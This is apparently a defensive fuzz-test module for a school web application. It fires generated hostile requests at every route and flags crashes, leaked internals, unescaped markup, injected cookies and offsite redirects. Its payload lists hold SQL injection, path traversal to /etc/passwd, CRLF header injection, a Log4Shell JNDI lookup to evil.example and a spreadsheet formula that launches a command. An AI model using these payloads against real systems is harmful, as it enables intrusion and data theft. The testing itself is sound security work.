"""Hostile requests: what somebody sends who wants a page to fail, to tell, or to show what he typed.

An `Attack` is made once by hypothesis and fired at every route: its values, its kind of body and its headers
are the same everywhere, what they stand for is each route's own.
"""

import json
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import cycle, islice
from typing import Any
from urllib.parse import urlencode

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from tests.contract.actors import KINDS, NAMED, Actor, Thing
from tests.contract.matrix import SMUGGLED, Matrix, Tally, anybody, whole
from tests.contract.pages import body_of
from tests.contract.routes import FORMS, PUBLIC, Route, form_keys

# A tag and an attribute that no page of ours has: where a reader of HTML finds one, it was not escaped.
TAG, ATTRIBUTE = "zq9", "onzq9"
MARKUP = (
    f"<{TAG}>",
    f"\"><{TAG} x='",
    f"'><{TAG}>",
    f'" {ATTRIBUTE}="1',
    f"' {ATTRIBUTE}='1",
    f"</script><{TAG}>",
    f"</title></textarea></select><{TAG}>",
    f"--><{TAG}>",
    f"<{TAG}",
    "javascript:zq9()//",
    "&lt;zq9&gt;",
    "{{7*7}}{% raw %}",
)
STORIES = (
    "' or 1=1 --",
    "'; drop table app.student; --",
    "1) union select public_id from app.student --",
    "%' escape '",
    "\\",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\con\\aux",
    "file:///etc/passwd",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    "a\r\nSet-Cookie: zq9=1",
    "\0",
    "a\0b",
    "\ud800",
    "\udcff\udc80",
    "\u202egnp.exe",
    "\u200f\u200e\u2066\u2069",
    "\ufeff",
    "e\u0301" * 40,
    "z\u0335" + "\u0336" * 300,
    "\U0001f9d1\u200d\U0001f9b0",
    "İıſK",
    "٣" * 16,
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    '{"$ne": null}',
    "NaN",
    "-1",
    "0",
    "1e309",
    "9" * 19,
    "9" * 400,
    "-9223372036854775809",
    "0x7fffffff",
    "2026-99-99T99:99:99+99:99",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59.999999-23:59",
    "99:99",
    "=cmd|' /C calc'!A0",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "",
    " ",
    "\t\n\r\v\f\x1c\x85\u2028\u2029",
    "x" * 300,
    "x" * 70_000,
    "a,b\n" * 2_000,
)
TEXTS = st.one_of(
    st.sampled_from(MARKUP),
    st.sampled_from(STORIES),
    # A zero byte ends every request at the door; the stories have enough of them.
    st.text(st.characters(exclude_characters="\0"), max_size=60),
    st.integers().map(str),
    st.binary(max_size=30).map(lambda each: each.replace(b"\0", b"").decode("utf-8", "surrogateescape")),
)
HEADERS = (
    "Host",
    "Accept",
    "Accept-Language",
    "Accept-Encoding",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Forwarded-Port",
    "X-Forwarded-Prefix",
    "Forwarded",
    "X-Request-Id",
    "Origin",
    "Referer",
    "User-Agent",
    "Range",
    "If-Modified-Since",
    "If-None-Match",
    "Authorization",
    "X-CSRFToken",
    "X-HTTP-Method-Override",
    "Sec-Fetch-Site",
    "Transfer-Encoding",
)
COOKIES = ("account", "student", "form", "device", "zq9")
PLAIN = (
    {"Accept": "application/json"},
    {"Accept": "text/html;q=0, application/json;q=2, */*;q=zq9"},
    {"X-Forwarded-For": "203.0.113.9, ::1, unknown"},
    {"X-Forwarded-For": "[::ffff:203.0.113.9]:99999"},
    {"X-Forwarded-Proto": "javascript"},
    {"Accept-Language": "zq9-" * 300},
)
BODIES = (*("form",) * 5, *("multipart",) * 4, "broken multipart", "json", "mislabelled", "raw")
MISLABELLED = (
    "text/plain",
    "application/json",
    "application/x-www-form-urlencoded; charset=utf-16",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=" + "z" * 300,
    "text/html; charset=zq9",
    "/",
    "",
)
METHODS = (None,) * 30 + ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "ZQ9")
# What no answer may hold: the inside of the program, of its database, or of the machine.
INSIDE = (
    "Traceback (most recent",
    'File "/',
    "site-packages",
    "psycopg",
    "sqlalchemy",
    "werkzeug",
    "jinja2",
    "SQLSTATE",
    "syntax error at",
    "row-level security",
    "backoffice_app",
    "root:x:0",
)
BOUNDARY = "zq9boundary"
# One attack is many requests, each judged by itself: nothing is to be shrunk, kept, or timed.
OF_NOTHING_BUT_THE_ATTACK = settings(
    database=None, deadline=None, phases=[Phase.generate], suppress_health_check=list(HealthCheck)
)
HOME = ("http://localhost/", "https://localhost/")


@dataclass(frozen=True)
class Attack:
    """One way to be hostile."""

    texts: Sequence[str]
    body: str
    headers: Mapping[str, str]
    cookies: Mapping[str, str]
    method: str | None
    content_type: str
    # Which fields are replaced: the others stay valid, so that the form gets past its first check.
    mask: int
    where: str
    keeps_token: bool


@st.composite
def attacks(draw: st.DrawFn) -> Attack:
    """Attacks of every kind."""
    headers = draw(
        st.one_of(
            st.just({}),
            st.just({}),
            st.sampled_from(PLAIN),
            st.dictionaries(st.sampled_from(HEADERS[1:]), TEXTS, max_size=4),
            # The name of another site is refused before anything is looked at.
            st.dictionaries(st.sampled_from(HEADERS), TEXTS, min_size=1, max_size=1),
        )
    )
    return Attack(
        texts=draw(st.lists(TEXTS, min_size=3, max_size=9)),
        body=draw(st.sampled_from(BODIES)),
        headers=headers,
        cookies=draw(
            st.one_of(st.just({}), st.just({}), st.dictionaries(st.sampled_from(COOKIES), TEXTS, max_size=3))
        ),
        method=draw(st.sampled_from(METHODS)),
        content_type=draw(st.sampled_from(MISLABELLED)),
        mask=draw(st.integers(1, 2**12 - 1)),
        where=draw(st.sampled_from(("own", "own", "foreign", "hostile"))),
        keeps_token=draw(st.sampled_from((*(True,) * 7, False))),
    )


@dataclass
class Fuzz:
    """Fires attacks and judges the answers."""

    matrix: Matrix
    requests: int = 0
    answers: Counter[int] = field(default_factory=Counter)

    def counts(self) -> dict[str, int]:
        """How many requests, and how they were answered."""
        answered = {f"answered {status}": count for status, count in sorted(self.answers.items())}
        return {"requests": self.requests, **answered}

    def fire(self, actor: Actor, attack: Attack, tally: Tally) -> None:
        """One attack at every route and every action of it."""
        for number, route in enumerate(self.matrix.routes):
            keys: list[str | None] = []
            if route.method == "POST":
                keys += [key for key, _permission in form_keys(self.matrix.app, route)]
            for key in keys or [None]:
                self._one(actor, attack, route, key, number, tally)

    def _one(
        self, actor: Actor, attack: Attack, route: Route, key: str | None, number: int, tally: Tally
    ) -> None:
        thing = self._thing(actor, attack, route, number)
        filled = FORMS[key](self.matrix.stage, actor, thing) if key else None
        texts = islice(cycle(attack.texts), number % len(attack.texts), None)
        fields = list(_replaced(filled.fields if filled else {}, attack, texts))
        if attack.keeps_token and filled:
            fields.append(("csrf_token", actor.token))
        query = [(name, next(texts)) for name in islice(cycle(SMUGGLED), number, number + 5)]
        query += [(name, next(texts)) for name in ("q", "classroom", "classroom", "before", "after")]
        query += list((filled.query or {}).items()) if filled and attack.mask & 1 else []
        path = self._path(attack, route, thing, next(texts))
        body, content_type = _body(attack, fields)
        response = self._sent(
            actor, attack, path=path, query=_encoded(query), method=attack.method or route.method, body=body,
            content_type=content_type,
        )  # fmt: skip
        said = f"{actor.name} {route} {key or ''} of {attack}"[:700]
        sent = " ".join((_readable(path.encode("latin-1")), str(query), str(fields), _readable(body)))
        self._judge(actor, route, None if attack.where == "hostile" else thing, response, sent, said, tally)

    def _thing(self, actor: Actor, attack: Attack, route: Route, number: int) -> Thing | None:
        kind = next(iter(route.kinds.values()), None)
        if kind not in {*KINDS, *NAMED}:
            return None
        stage = self.matrix.stage
        chosen = stage.foreign(actor, kind) if attack.where == "foreign" else stage.own(actor, kind)
        things = chosen or stage.of(kind)
        return things[number % len(things)]

    def _path(self, attack: Attack, route: Route, thing: Thing | None, text: str) -> str:
        """The path as WSGI has it: bytes that look like Latin-1."""
        written = route.rule.rule
        for name in route.kinds:
            converter = f"<{route.kinds[name]}:{name}>"
            assert converter in written, "The rule is not written as expected."
            value = text if attack.where == "hostile" or thing is None else thing.public_id
            written = written.replace(converter, value)
        return _bytes(written).decode("latin-1")

    def _sent(
        self,
        actor: Actor,
        attack: Attack,
        *,
        path: str,
        query: bytes,
        method: str,
        body: bytes,
        content_type: str,
    ) -> TestResponse:
        app = self.matrix.app
        cookies = {**actor.cookies, **actor.jar, **attack.cookies}
        environ = {
            "REQUEST_METHOD": method,
            "PATH_INFO": path,
            "QUERY_STRING": query.decode("latin-1"),
            "HTTP_COOKIE": "; ".join(f"{name}={_header(value)}" for name, value in cookies.items()),
            **{
                f"HTTP_{name.upper().replace('-', '_')}": _header(value)
                for name, value in attack.headers.items()
            },
        }
        if method in {"GET", "HEAD"}:
            body, content_type = b"", ""
        self.requests += 1
        return whole(
            app.test_client(use_cookies=False).open(
                "/",
                method=method if method != "ZQ9" else "POST",
                data=body,
                content_type=content_type or None,
                environ_overrides=environ,
            )
        )

    def _judge(
        self,
        actor: Actor,
        route: Route,
        thing: Thing | None,
        response: TestResponse,
        sent: str,
        said: str,
        tally: Tally,
    ) -> None:
        self.answers[response.status_code] += 1
        public = route.endpoint in PUBLIC
        text = body_of(response)
        if response.status_code >= 500:
            tally.hole(f"{said}: answered {response.status}")
        if found := [each for each in INSIDE if each in text and each not in sent]:
            tally.hole(f"{said}: tells of the inside: {found}")
        if found := unescaped(response):
            tally.hole(f"{said}: not escaped: {found}")
        if any(name.lower() == "set-cookie" and value.startswith("zq9") for name, value in response.headers):
            tally.hole(f"{said}: sets a cookie of the visitor's choice")
        away = (response.location or "").lower().lstrip()
        if away.startswith(("//", "/\\", "http", "javascript")) and not away.startswith(HOME):
            tally.hole(f"{said}: sends to {away[:80]}")
        if strangers := self.matrix.leaked(actor, response, sent + self._on_the_letter(route, sent)):
            tally.hole(f"{said}: shows {strangers}")
        changes = self.matrix.settle()
        known = anybody(self.matrix, actor) if public else actor
        # Whoever leaves the own child changes that link, and is noted at that child's school only.
        # And the tablets of somebody who is suspended are that person's.
        whose = thing if thing and (actor.follows(thing) or thing.kind == "account") else None
        if trespasses := self.matrix.trespass(known, whose, changes):
            tally.hole(f"{said}: {trespasses}")

    def _on_the_letter(self, route: Route, sent: str) -> str:
        """What the page says to whoever sent the code of the letter, and nobody else: it is printed there."""
        world = self.matrix.stage.world
        if route.endpoint != "families.give_address" or world.letter not in sent:
            return ""
        said = (world.home.name, world.own_class.children[0].given, world.people["teacher"].name)
        return " ".join(("", *said))


class _Escaped(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if TAG in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if TAG in name:
                self.found.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction"} and (value or "").lower().lstrip().startswith(
                ("javascript:", "//", "data:text")
            ):
                self.found.append(f"{tag} {name}={(value or '')[:40]}")


def unescaped(response: TestResponse) -> list[str]:
    """What somebody typed and the page has as markup of its own."""
    if response.mimetype != "text/html":
        return []
    reader = _Escaped()
    reader.feed(response.get_data(as_text=True))
    return reader.found


def _replaced(
    fields: Mapping[str, Any], attack: Attack, texts: Iterator[str]
) -> Iterator[tuple[str, str | Callable[[], Any]]]:
    """The fields of a form with some of their values replaced, repeated, or sent as files."""
    for place, (name, value) in enumerate(fields.items()):
        replaced = attack.mask >> (place % 12) & 1
        if replaced:
            yield name, next(texts)
        for each in value if isinstance(value, list) else [value]:
            if not replaced or attack.mask & 4:
                yield name, each
    if attack.mask & 2:
        yield next(texts), next(texts)


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _readable(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def _header(text: str) -> str:
    """What a server would let through: no line ends, and bytes that look like Latin-1."""
    return _bytes(text).translate(None, b"\r\n\0").decode("latin-1")[:8000]


def _encoded(pairs: Sequence[tuple[str, Any]]) -> bytes:
    return urlencode([(_bytes(name), _bytes(str(value))) for name, value in pairs]).encode()


def _body(attack: Attack, fields: Sequence[tuple[str, Any]]) -> tuple[bytes, str]:
    """The body and its content type."""
    sent = [(name, "zq9" if callable(value) else value) for name, value in fields]
    match attack.body:
        case "form":
            return _encoded(sent), "application/x-www-form-urlencoded"
        case "multipart":
            return _multipart(attack, fields), f"multipart/form-data; boundary={BOUNDARY}"
        case "broken multipart":
            parts = _multipart(attack, fields)
            cut = parts[: len(parts) * (attack.mask % 97) // 97]
            return cut.replace(b"form-data", b"form-zq9", attack.mask % 2), (
                f"multipart/form-data; boundary={BOUNDARY}"
            )
        case "json":
            whole_body: Any = [dict(sent)] if attack.mask & 1 else dict(sent)
            return json.dumps(whole_body).encode(), "application/json"
        case "mislabelled":
            return _encoded(sent), attack.content_type
    return _bytes("".join(attack.texts)), attack.content_type


def _multipart(attack: Attack, fields: Sequence[tuple[str, Any]]) -> bytes:
    parts = []
    for place, (name, value) in enumerate(fields):
        head = b'Content-Disposition: form-data; name="%s"' % _quoted(name)
        if callable(value):
            stream, filename = value()
            content = stream.read()
            content = content[: len(content) * (attack.mask % 50) // 40] if attack.mask & 8 else content
            head += b'; filename="%s"' % _quoted(attack.texts[0] if attack.mask & 16 else filename)
        else:
            content = _bytes(str(value))
            if name != "csrf_token" and attack.mask >> (place % 12) & attack.mask >> 5 & 1:
                head += b'; filename="%s"' % _quoted(attack.texts[-1])
        parts.append(b"--%s\r\n%s\r\n\r\n%s\r\n" % (BOUNDARY.encode(), head, content))
    return b"".join(parts) + b"--%s--\r\n" % BOUNDARY.encode()


def _quoted(text: str) -> bytes:
    return _bytes(text).replace(b'"', b"%22").translate(None, b"\r\n")
